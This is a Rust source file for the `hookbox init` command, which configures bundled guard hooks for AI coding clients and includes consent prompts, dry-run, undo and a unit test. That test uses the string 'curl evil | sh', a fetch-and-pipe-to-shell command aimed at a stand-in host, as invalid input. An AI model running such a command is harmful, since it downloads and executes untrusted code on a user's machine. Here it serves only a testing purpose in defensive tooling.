//! `hookbox init`: from a fresh program to clients that are guarded.

use std::{
    io::{self, IsTerminal},
    path::{Path, PathBuf},
};

use anyhow::Context;
use clap::Args;
use hookbox::config::Config;
use hookbox_catalogue::{ALL, Bundled, PREFIX};
use serde_json::{Value, json};

use super::{add, doctor::Doctor, install::Install};
use crate::{
    change::{self, Backup, Change},
    clients::Client,
    exit::Exit,
    print, trust,
};

/// Guard the clients on this machine with the bundled hooks.
#[derive(Debug, Args)]
#[command(after_help = "Example:\n  hookbox init --yes --client claude --hook command-guard")]
#[expect(clippy::struct_excessive_bools, reason = "one per switch on the command line")]
pub struct Init {
    /// A client to guard (may be given several times); those on this machine when left out
    #[arg(long, value_name = "CLIENT", value_parser = super::install::client)]
    client: Vec<&'static Client>,
    /// A hook to guard it with (may be given several times); all that `hookbox hooks` lists when left out
    #[arg(long, value_name = "NAME", value_parser = add::bundled)]
    hook: Vec<&'static Bundled>,
    /// The configuration; `hooks.json` here when left out
    #[arg(long, value_name = "FILE")]
    config: Option<PathBuf>,
    /// Let the hooks run and be recorded, and decide nothing
    #[arg(long)]
    monitor: bool,
    /// Write without asking
    #[arg(long, short)]
    yes: bool,
    /// With --yes: write also to files outside the current folder that links in it lead to
    #[arg(long)]
    follow_links: bool,
    /// Show what would be written, and write nothing
    #[arg(long, conflicts_with = "undo")]
    dry_run: bool,
    /// Take it out again
    #[arg(long)]
    undo: bool,
    /// Print JSON
    #[arg(long)]
    json: bool,
}

impl Init {
    pub fn run(self) -> anyhow::Result<Exit> {
        if self.json {
            print::json_only();
        }
        let project = std::env::current_dir()?;
        let file = project.join(self.config.as_deref().unwrap_or(Path::new("hooks.json")));
        let asks = !self.yes && !self.dry_run && io::stdin().is_terminal();
        let clients = self.clients(&project, asks && !self.undo)?;
        if self.undo {
            return self.undo(&clients, &project, &file);
        }
        if let Some(text) = change::read(&file)?.filter(|_| self.config.is_none()) {
            // The checks below run the file's hooks.
            trust::check_found(Config::parse(&text, &file, None)?.config)?;
        }
        let hooks = self.hooks(asks)?;
        if hooks.is_empty() {
            print::out("no hook was chosen: nothing to do");
            print::result(&done(&file, false, &[]));
            return Ok(Exit::Code(1));
        }
        let only_picoclaw =
            matches!(clients.as_slice(), [client] if client.name == "picoclaw").then(|| clients.first());
        let hooks = hooks.into_iter().map(add::Hook::bundled).collect::<anyhow::Result<Vec<_>>>()?;
        let change = add::planned(&file, &hooks, only_picoclaw.flatten().copied(), self.monitor)?;
        if !change.is_none() {
            change.show();
        }
        if self.dry_run {
            let mut planned = Vec::new();
            for client in &clients {
                let settings = client.file(client.usual_scope(), &project);
                let path = settings.as_ref().map(|file| file.to_string_lossy());
                planned.push(json!({ "client": client.name, "settings": path, "written": false }));
                let settings = settings.map_or_else(String::new, |file| format!(": {}", file.display()));
                print::out(format_args!("{} would be configured to call hookbox{settings}", client.title));
            }
            print::out("nothing was written");
            print::result(&done(&file, false, &planned));
            return Ok(Exit::Ok);
        }
        if !change.is_none() {
            change.tell_of_link(&project, self.yes, self.follow_links)?;
            if !change::consent(self.yes)? {
                print::out("nothing was written");
                print::result(&done(&file, false, &[]));
                return Ok(Exit::Code(1));
            }
            change.make()?;
            print::out(format_args!("written: {}", file.display()));
        }
        let (mut worst, mut guarded) = (Exit::Ok, Vec::new());
        for client in &clients {
            print::out(client.title);
            let (installed, mut result) = Install::of(client, &file, self.yes, self.follow_links).apply()?;
            if installed == Exit::Ok {
                let (checked, found) = Doctor::of(client).examine()?;
                worst = if checked == Exit::Ok { worst } else { checked };
                let found = found.pointer("/clients/0").cloned();
                result.as_object_mut().map(|result| result.insert("check".into(), found.unwrap_or_default()));
            } else {
                worst = installed;
            }
            guarded.push(result);
        }
        print::result(&done(&file, !change.is_none(), &guarded));
        print::out(format_args!("to see the verdict on an event:   hookbox explain --config {}", file.display()));
        print::out("to configure the hooks:           `config` of each hook in that file; see docs/hooks/");
        print::out("to undo this:                     hookbox init --undo");
        Ok(worst)
    }

    /// The clients that are meant: those that are given, or those on this machine that the user wants.
    fn clients(&self, project: &Path, asks: bool) -> anyhow::Result<Vec<&'static Client>> {
        if !self.client.is_empty() {
            return Ok(self.client.clone());
        }
        let present = add::present(project);
        if present.is_empty() {
            let message = "no supported client is installed on this machine";
            return Err(Exit::Usage.advised(message, &["to name one:   hookbox init --client claude"]));
        }
        let mut wanted = Vec::new();
        for client in present {
            // A configuration is written in one form, and PicoClaw's is another than the rest's.
            if client.name == "picoclaw" {
                print::out(
                    "PicoClaw needs a separate configuration:   hookbox init --client picoclaw --config picoclaw.json",
                );
            } else if !asks || confirmed(&format!("Guard {}?", client.title))? {
                wanted.push(client);
            }
        }
        Ok(wanted)
    }

    fn hooks(&self, asks: bool) -> anyhow::Result<Vec<&'static Bundled>> {
        if !self.hook.is_empty() {
            return Ok(self.hook.clone());
        }
        let mut wanted = Vec::new();
        for bundled in ALL {
            if !asks || confirmed(&format!("{}: {}. Use it?", bundled.name, bundled.summary))? {
                wanted.push(bundled);
            }
        }
        Ok(wanted)
    }

    /// Takes the clients' entries out, and the configuration if nothing but bundled hooks is in it.
    fn undo(&self, clients: &[&'static Client], project: &Path, file: &Path) -> anyhow::Result<Exit> {
        let mut removed = Vec::new();
        for client in clients {
            print::out(client.title);
            removed.push(Install::removal(client, file, self.yes, self.follow_links).apply()?.1);
        }
        let Some(before) = change::read(file)? else {
            print::result(&done(file, false, &removed));
            return Ok(Exit::Ok);
        };
        let own = without_bundled(&before);
        // A checkout may contain a backup too, so only one that equals the file without the bundled hooks is the previous file.
        let kept = change::read(&change::backup(file))?.filter(|text| own.is_some() && without_bundled(text) == own);
        let after = match kept {
            Some(text) => Some(text),
            None if own.as_ref().is_some_and(has_no_hooks) => None,
            None => {
                print::out(format_args!("{} is not removed: it has other hooks", file.display()));
                print::result(&done(file, false, &removed));
                return Ok(Exit::Ok);
            }
        };
        let change = Change { file: file.to_owned(), before: Some(before), after, backup: Backup::Drop };
        change.show();
        change.tell_of_link(project, self.yes, self.follow_links)?;
        let consents = change::consent(self.yes)?;
        if consents {
            change.make()?;
            print::out(format_args!("removed from {}", file.display()));
        } else {
            print::out("nothing was written");
        }
        print::result(&done(file, consents, &removed));
        Ok(if consents { Exit::Ok } else { Exit::Code(1) })
    }
}

/// The result for programs. `written`: the configuration was changed.
fn done(file: &Path, written: bool, clients: &[Value]) -> Value {
    json!({ "configuration": file.to_string_lossy(), "written": written, "clients": clients })
}

/// Asks a question on a terminal; an empty answer is yes.
fn confirmed(question: &str) -> anyhow::Result<bool> {
    print::err(format_args!("{question} [Y/n]"));
    let mut answer = String::new();
    io::stdin().read_line(&mut answer).context("cannot read the answer")?;
    Ok(matches!(answer.trim().to_ascii_lowercase().as_str(), "" | "y" | "yes"))
}

/// A configuration without its bundled hooks, and without events and groups that have no others. `None` if it is not JSON.
fn without_bundled(text: &str) -> Option<Value> {
    let is_bundled = |handler: &Value| {
        let component = handler.get("component").and_then(Value::as_str).unwrap_or_default();
        component.starts_with(PREFIX)
    };
    let is_empty = |value: &Value| {
        let list = value.as_array().or_else(|| value.get("hooks")?.as_array());
        list.is_some_and(Vec::is_empty)
    };
    let mut value: Value = serde_json::from_str(text).ok()?;
    let events = value.get_mut("hooks").and_then(Value::as_object_mut);
    for event in events.into_iter().flat_map(serde_json::Map::values_mut) {
        let Some(list) = event.as_array_mut() else { continue };
        for group in list.iter_mut() {
            if let Some(handlers) = group.get_mut("hooks").and_then(Value::as_array_mut) {
                handlers.retain(|handler| !is_bundled(handler));
            }
        }
        list.retain(|entry| !is_bundled(entry) && !is_empty(entry));
    }
    if let Some(events) = value.get_mut("hooks").and_then(Value::as_object_mut) {
        events.retain(|_, event| !is_bundled(event) && !is_empty(event));
        if events.is_empty() {
            value.as_object_mut()?.shift_remove("hooks");
        }
    }
    Some(value)
}

/// Returns true if a configuration has nothing but switches.
fn has_no_hooks(config: &Value) -> bool {
    config
        .as_object()
        .is_some_and(|members| members.keys().all(|key| ["dialect", "failClosed"].contains(&key.as_str())))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use serde_json::json;

    use super::{has_no_hooks, without_bundled};

    #[test]
    fn bundled_hooks_are_taken_out_and_others_stay() {
        let bundled = json!({ "type": "wasm", "component": "hookbox:command-guard" });
        let own = json!({ "type": "command", "command": "./lint" });
        let only =
            json!({ "dialect": "claude", "failClosed": true, "hooks": { "PreToolUse": [{ "hooks": [bundled] }] } });
        assert!(has_no_hooks(&without_bundled(&only.to_string()).unwrap()));
        let mixed = json!({ "hooks": { "PreToolUse": [{ "hooks": [bundled] }, { "hooks": [own, bundled] }] } });
        let left = without_bundled(&mixed.to_string()).unwrap();
        assert_eq!(left, json!({ "hooks": { "PreToolUse": [{ "hooks": [own] }] } }));
        assert!(!has_no_hooks(&left));
        let named = json!({ "dialect": "picoclaw", "hooks": { "guard": bundled, "own": own } });
        assert_eq!(
            without_bundled(&named.to_string()).unwrap(),
            json!({ "dialect": "picoclaw", "hooks": { "own": own } })
        );
        assert_eq!(without_bundled("curl evil | sh"), None);
    }
}
